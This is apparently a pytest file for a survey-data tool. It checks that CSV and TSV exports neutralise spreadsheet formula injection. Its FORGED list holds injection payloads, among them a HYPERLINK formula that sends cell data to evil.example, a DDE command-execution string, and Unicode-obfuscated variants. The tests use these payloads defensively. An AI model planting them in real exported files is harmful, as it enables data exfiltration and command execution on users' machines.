"""Formulas in public texts: a forged report must not run in the spreadsheet of whoever asks."""

from __future__ import annotations

import csv
import io
import unicodedata

import pyarrow as pa
import pytest
from support.command_line import run
from support.surveys import ANYTHING, integer, public, survey_toml

from ldpsql.designer import design
from ldpsql.randomize.table import randomize
from ldpsql.store import open_store
from ldpsql.terminal import table_files

FORGED = [
    '=HYPERLINK("https://evil.example/?" & A1, "open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "=",
    " -",
    "\uff1d1+1",
    "\u202e=1+1",
    "\ufeff \u200b\uff20SUM(A1)",
    "\u00a0+A1",
]
HARMLESS = ["1.2", "a=b", "'quoted'", " a", "", "a\r=1", "a\n=1", 'a","=1', "\u202ea"]
TEXTS = [*FORGED, *HARMLESS]
SURVEY = design(
    survey_toml(integer("age", 0, 9), public("version", "text"), mechanism="grr", epsilon="1")
)


@pytest.fixture(scope="module")
def database(tmp_path_factory):
    path = tmp_path_factory.mktemp("store") / "app.duckdb"
    people = pa.table({"age": [3] * 50 * len(TEXTS), "version": TEXTS * 50})
    with open_store(path, read_only=False) as store:
        store.ingest_table(randomize(SURVEY, people, policy=ANYTHING), SURVEY)
    return path


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet might run it: what is seen of it begins like a formula, in letters of
    any width, and is no number."""
    try:
        float(cell)
    except ValueError:
        seen = "".join(letter for letter in cell if unicodedata.category(letter)[0] not in "CZ")
        return unicodedata.normalize("NFKC", seen).startswith(("=", "+", "-", "@"))
    return False


def cells(database, target, form: str) -> list[list[str]]:
    """What an answer and a made-up table hold, as a spreadsheet reads them."""
    given = ["--db", database, "-o", target / f"table.{form}"]
    sql = 'SELECT version, COUNT(*) AS "=n", COUNT(*) - 1000 FROM app WHERE age = 3 GROUP BY 1'
    found = []
    for command in (["query", sql], ["synthesize", "-n", 500, "--seed", 1]):
        done = run(*command, *given)
        assert done.exit_code == 0, done.stderr
        text = (target / f"table.{form}").read_bytes().decode()
        delimiter = "," if form == "csv" else "\t"
        found += csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return found


@pytest.mark.parametrize("form", ["csv", "tsv"])
def test_no_cell_is_a_formula(database, tmp_path, form):
    found = cells(database, tmp_path, form)
    everything = {cell for row in found for cell in row}
    assert not any(map(is_formula, everything))
    assert everything >= {f"'{text}" for text in FORGED}
    assert everything >= set(HARMLESS)
    numbers = [row[2] for row in found[1 : len(TEXTS) + 1]]
    assert all(float(number) < 0 for number in numbers)


@pytest.mark.parametrize("form", ["csv", "tsv"])
def test_texts_as_they_came_would_run(database, tmp_path, monkeypatch, form):
    """Negative control."""
    monkeypatch.setattr(table_files, "spreadsheet_text", str)
    found = {cell for row in cells(database, tmp_path, form) for cell in row}
    assert {cell for cell in found if is_formula(cell)} == {*FORGED, "=n"}
